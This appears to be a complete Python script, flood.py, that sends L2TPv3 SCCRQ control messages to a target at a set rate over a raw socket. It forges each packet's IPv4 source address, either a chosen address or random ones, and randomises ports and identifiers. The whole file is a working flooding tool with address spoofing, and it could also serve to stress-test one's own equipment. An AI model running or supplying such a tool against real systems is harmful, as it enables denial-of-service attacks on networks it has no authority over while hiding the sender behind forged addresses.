"""Sends SCCRQs (RFC 3931 section 6.1) in the names of others: `flood.py TARGET RATE COUNT [SOURCE]`.

COUNT datagrams, RATE a second, from random ports of the address SOURCE or, without it, of random addresses, each with an
identifier and a tie breaker of its own. Says how many it has sent. Needs root: the sender's address is its own invention.
"""

import random
import socket
import struct
import sys
import time

TICK = 0.01  # Seconds.
PORT = 1701
UDP = 17
LIFETIME = 64  # Hops.
# Where a kernel finds a port for who asks for none. tshark goes by the lower port of a datagram first: an answer to a port of
# RADIUS, say, would be no control message to it.
SENDERS_PORTS = range(32768, 61000)


def avp(kind, value):
    """A mandatory AVP of the IETF's."""
    return struct.pack("!HHH", 0x8000 | 6 + len(value), 0, kind) + value


def request(draw):
    """An SCCRQ as a router would send it."""
    body = avp(0, b"\0\1") + avp(7, b"forged") + avp(60, draw.randbytes(4))  # Message Type, Host Name, Router ID.
    body += avp(61, struct.pack("!I", draw.randrange(1, 1 << 32))) + avp(62, b"\0\5")  # Assigned ID, Pseudowire Capabilities.
    body += avp(5, draw.randbytes(8))  # Control Connection Tie Breaker.
    return struct.pack("!HHIHH", 0xC803, 12 + len(body), 0, 0, 0) + body


def datagram(source, target, message, draw):
    """An IPv4 packet; the kernel fills in its checksum, and UDP's is left out."""
    udp = struct.pack("!HHHH", draw.choice(SENDERS_PORTS), PORT, 8 + len(message), 0) + message
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, LIFETIME, UDP, 0, source, target) + udp


def main(target, rate, count, source=None):
    draw = random.Random(1)
    there = socket.inet_aton(target)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as out:
        sent, begin = 0, time.monotonic()
        while sent < int(count):
            due = min(int(count), int((time.monotonic() - begin) * int(rate)) + 1)
            while sent < due:
                # Unicast addresses that are not a LAN's.
                here = socket.inet_aton(source) if source else bytes([draw.randrange(11, 100), *draw.randbytes(3)])
                out.sendto(datagram(here, there, request(draw), draw), (target, 0))
                sent += 1
            time.sleep(TICK)
    print(sent)


if __name__ == "__main__":
    main(*sys.argv[1:])
